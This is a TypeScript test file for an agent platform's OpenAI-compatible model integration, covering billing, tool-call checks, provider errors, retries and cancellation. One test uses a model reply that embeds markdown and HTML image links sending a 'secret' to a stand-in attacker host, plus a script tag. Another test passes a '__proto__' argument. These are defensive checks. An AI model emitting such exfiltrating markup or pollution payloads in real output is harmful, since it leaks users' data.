import assert from 'node:assert/strict'
import { once } from 'node:events'
import type { ServerResponse } from 'node:http'
import { after, beforeEach, it } from 'node:test'
import { SECOND } from '#src/core/clock.ts'
import { agentCalls } from '../support/agents.ts'
import { type Asked, ask, begin, event, say, startChatServer } from '../support/chat-server.ts'
import { administrator } from '../support/people.ts'
import { onBothEngines, testOnOneEngineByDay, usePostern } from '../support/postern.ts'
import { until } from '../support/waits.ts'

const stub = await startChatServer()
after(() => stub.stop())

onBothEngines('a model behind an OpenAI-compatible endpoint', (engine) => {
  const test = testOnOneEngineByDay(engine)
  const server = usePostern(engine, { env: stub.env })
  beforeEach(() => {
    stub.asked.length = 0
    stub.answer = (_asked, response) => say(response, 'It costs forty crowns.')
  })
  const stand = async (fields: object = {}) => {
    const postern = await server()
    const admin = await administrator(postern)
    const calls = agentCalls(postern, admin)
    const agentId = await calls.agent({ model: 'stub', instructions: 'Be short.', ...fields })
    const run = async (input = 'What does it cost?', more = {}) =>
      calls.ended((await calls.run(agentId, input, more)).id)
    return { postern, admin, calls, agentId, run }
  }

  it('is asked with its key, and what it says and has used is kept and paid once', async () => {
    const { calls, run } = await stand()
    const ended = await run()
    assert.deepEqual([ended.status, ended.output], ['succeeded', 'It costs forty crowns.'])
    assert.deepEqual(ended.usage, { inputTokens: 1_000, outputTokens: 500 })
    // 1,000 tokens at 2 credits and 500 at 4, each for 1,000, and the price of a step.
    const [step] = await calls.steps(ended.id)
    assert.deepEqual([ended.credits, step?.credits], [5, 5])
    const [asked] = stub.asked
    assert.equal(asked?.authorization, 'Bearer a-key')
    assert.deepEqual(
      asked?.messages.map(({ role, content }) => [role, content]),
      [
        ['system', 'Be short.'],
        ['user', 'What does it cost?'],
      ],
    )
    assert.equal(stub.asked.length, 1)
  })

  test('says what it says: what would be fetched or run elsewhere is a text here', async () => {
    const { calls, run } = await stand()
    const evil = '![x](https://evil.test/?q=secret) <img src="https://evil.test/"> <script>alert(1)</script>'
    stub.answer = (_asked, response) => say(response, evil)
    const { id, output } = await run()
    assert.equal(output, evil)
    const { headers } = await calls.get(`/v1/runs/${id}`)
    assert.match(String(headers.get('content-type')), /^application\/json/)
    assert.equal(headers.get('x-content-type-options'), 'nosniff')
  })

  test('reads in a conversation what was said before', async () => {
    const { calls, run } = await stand()
    const conversationId = await calls.conversation()
    await run('First?', { conversationId })
    await run('Second?', { conversationId })
    assert.deepEqual(
      stub.asked.at(-1)?.messages.map(({ content }) => content),
      ['Be short.', 'First?', 'It costs forty crowns.', 'Second?'],
    )
  })

  test('reads why a call was not made: an unknown tool, arguments that are no object or lead astray, too many', async () => {
    const { calls, run } = await stand({ maxSteps: 50 })
    stub.answer = (asked, response) => {
      if (asked.messages.some(({ role }) => role === 'tool')) return say(response, 'I give up.')
      const odd: [string, string][] = [
        ['nothing', '{}'],
        ['search', '[1]'],
        ['search', '{"__proto__":{}}'],
      ]
      ask(response, [...odd, ...Array.from({ length: 47 }, (): [string, string] => ['nothing', '{}'])])
    }
    const ended = await run()
    assert.equal(ended.output, 'I give up.')
    const results = stub.asked.at(-1)?.messages.filter(({ role }) => role === 'tool') ?? []
    assert.equal(results.length, 50)
    assert.match(results[0]?.content ?? '', /no such tool/)
    assert.match(results[49]?.content ?? '', /Not called/)
    const steps = await calls.steps(ended.id)
    assert.equal(steps.filter(({ kind }) => kind === 'tool').length, 16)
    assert.ok(steps.filter(({ kind }) => kind === 'tool').every(({ credits }) => credits === 0))
  })

  test('that never stops to call tools ends with max_steps', async () => {
    const { run } = await stand({ maxSteps: 4 })
    stub.answer = (_asked, response) => ask(response, [['nothing', '{}']])
    const { status, error } = await run()
    assert.deepEqual([status, error.code, error.details.reason], ['failed', 'PROCESSING_FAILED', 'max_steps'])
  })

  const FAULTS: [string, (response: ServerResponse) => void, string, string][] = [
    ['refuses its key', (one) => void one.writeHead(401).end(), 'INTEGRATION_PROVIDER_ERROR', 'status_401'],
    ['fails', (one) => void one.writeHead(500).end('{}'), 'INTEGRATION_PROVIDER_ERROR', 'status_500'],
    [
      'redirects',
      (one) => void one.writeHead(302, { location: '/' }).end(),
      'INTEGRATION_PROVIDER_ERROR',
      'status_302',
    ],
    [
      'is cut off',
      (one) => {
        begin(one)
        one.write(event({ choices: [{ delta: { content: 'It costs' } }] }), () => one.destroy())
      },
      'INTEGRATION_PROVIDER_ERROR',
      'cut',
    ],
    [
      'fails in a stream that began well',
      (one) => {
        begin(one)
        one.end(event({ error: { message: 'overloaded' } }))
      },
      'INTEGRATION_PROVIDER_ERROR',
      'provider_error',
    ],
    [
      'sends a line without an end',
      (one) => {
        begin(one)
        // Far more than a line may have.
        one.write('x'.repeat(4 * 1024 * 1024))
      },
      'INTEGRATION_PROVIDER_ERROR',
      'too_large',
    ],
    [
      'asks to wait longer than the run may take',
      (one) => void one.writeHead(429, { 'retry-after': '3600' }).end(),
      'INTEGRATION_RATE_LIMIT',
      'status_429',
    ],
  ]
  for (const [what, fault, code, reason] of FAULTS)
    test(`that ${what} fails the run with ${code}, and is not asked once more`, async () => {
      const { run } = await stand()
      stub.answer = (_asked, response) => fault(response)
      const { status, error, usage } = await run()
      assert.deepEqual([status, error.code, error.details.reason], ['failed', code, reason])
      assert.equal(stub.asked.length, 1)
      if (reason.startsWith('status_')) assert.deepEqual(usage, { inputTokens: 0, outputTokens: 0 })
      else assert.ok(usage.inputTokens > 0)
    })

  test('that asks to wait a moment is asked once more after it', async () => {
    const { run } = await stand()
    stub.answer = (_asked, response) => {
      if (stub.asked.length > 1) return say(response, 'Now.')
      response.writeHead(429, { 'retry-after': '1' }).end()
    }
    assert.equal((await run()).output, 'Now.')
    assert.equal(stub.asked.length, 2)
  })

  test('keeps its connection when its stream ends after the last event, which the run does not wait for, and within a second', async () => {
    const { postern, run } = await stand()
    const answers: ServerResponse[] = []
    stub.answer = (_asked: Asked, response: ServerResponse) => {
      begin(response)
      response.write(event({ choices: [{ delta: { content: 'Forty.' }, finish_reason: 'stop' }] }))
      response.write('data: [DONE]\n\n')
      answers.push(response)
    }
    const cutBefore = stub.cut()
    assert.equal((await run()).output, 'Forty.')
    const [first] = answers
    assert.ok(first)
    const ended = once(first, 'close')
    first.end('\n')
    await ended
    assert.equal(stub.cut(), cutBefore)
    assert.equal((await run()).output, 'Forty.')
    postern.clock.advance(SECOND)
    await until(stub.cut, (count) => count === cutBefore + 1, { what: 'the socket to be closed' })
  })

  test('is cut off when the run is cancelled, and when its time is over', async () => {
    const { postern, calls, agentId } = await stand()
    stub.answer = (_asked: Asked, response: ServerResponse) => {
      begin(response)
      response.write(event({ choices: [{ delta: { content: 'Well, ' } }] }))
    }
    const cutBefore = stub.cut()
    const { id } = await calls.run(agentId, 'Long?')
    await until(
      () => stub.asked.length,
      (count) => count === 1,
      { what: 'the model to be asked' },
    )
    const cancelled = await calls.post(`/v1/runs/${id}/cancel`)
    assert.deepEqual([cancelled.status, cancelled.body.status], [200, 'cancelled'])
    await until(stub.cut, (count) => count === cutBefore + 1, { what: 'the socket to be closed' })
    assert.equal((await calls.post(`/v1/runs/${id}/cancel`)).body.status, 'cancelled')
    const [step] = await calls.steps(id)
    assert.deepEqual([step?.status, step?.reason], ['failed', 'cancelled'])
    // What it had read and said by then is paid, once.
    const { usage, credits } = (await calls.get(`/v1/runs/${id}`)).body
    assert.ok(usage.inputTokens > 0 && usage.outputTokens > 0, JSON.stringify(usage))
    const { body: ledger } = await calls.get('/v1/billing/ledger')
    const debits = ledger.data.filter(({ kind }: { kind: string }) => kind === 'debit')
    assert.deepEqual(
      debits.map(({ price }: { price: number }) => price),
      [credits],
    )
    const timeoutMs = 20_000
    await calls.patch(`/v1/agents/${agentId}`, { timeoutMs })
    const { id: tooLong } = await calls.run(agentId, 'Long?')
    await until(
      () => stub.asked.length,
      (count) => count === 2,
      { what: 'the model to be asked again' },
    )
    postern.clock.advance(timeoutMs)
    const late = await calls.ended(tooLong)
    assert.deepEqual([late.status, late.error.details.reason], ['failed', 'timeout'])
    await until(stub.cut, (count) => count === cutBefore + 2, { what: 'the socket to be closed' })
  })
})
